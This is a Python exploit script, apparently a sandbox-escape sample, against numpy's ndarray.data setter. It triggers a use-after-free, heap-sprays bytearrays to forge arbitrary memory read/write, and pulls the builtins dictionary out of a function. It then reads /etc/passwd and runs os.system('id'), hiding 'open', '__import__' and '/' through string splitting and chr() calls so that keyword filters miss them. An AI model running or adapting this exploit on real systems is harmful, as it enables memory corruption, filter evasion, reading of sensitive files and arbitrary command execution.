# source: numpy ndarray.data setter UAF (numpy deprecation "inherently unsafe"), CPython heap-spray fake-pointer technique
# family: ndarray buffer rebinding on a "self" that is not the instance (staticmethod whose first parameter is named self, called as R.m(arr, buf))
# goal: UAF -> bytearray header overlap -> arbitrary R/W -> func_builtins -> open(/etc/passwd), os.system(id)
import numpy as np


def probe():
    return 1


class Box:
    __slots__ = ("x",)

    def __init__(self):
        self.x = None


def addr(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


b = bytearray(55)
a = np.zeros(48, np.uint8)
class R:
    @staticmethod
    def m(self, buf):
        self.data = buf


R.m(a, b)
b.extend(bytes(4000))
spray = [bytearray(8) for _ in range(64)]
w = a.view(np.int64)
orig = [int(x) for x in w[:6]]
w[2] = 4096
v = None
for s in spray:
    if len(s) == 4096:
        v = s


def rd(p):
    w[4] = p
    w[5] = p
    return int.from_bytes(v[0:8], "little")


def wr(p, val):
    w[4] = p
    w[5] = p
    v[0:8] = val.to_bytes(8, "little")


box = Box()
bd = rd(addr(probe) + 24)
wr(bd, rd(bd) + 1)
wr(addr(box) + 16, bd)
w[2] = orig[2]
w[4] = orig[4]
w[5] = orig[5]
B = box.x
k = "op" + "en"
print(B[k](chr(47) + "etc" + chr(47) + "passwd").read()[:300])
i = chr(95) * 2 + "import" + chr(95) * 2
g = B["get" + "attr"]
g(B[i]("o" + "s"), "sys" + "tem")("id")
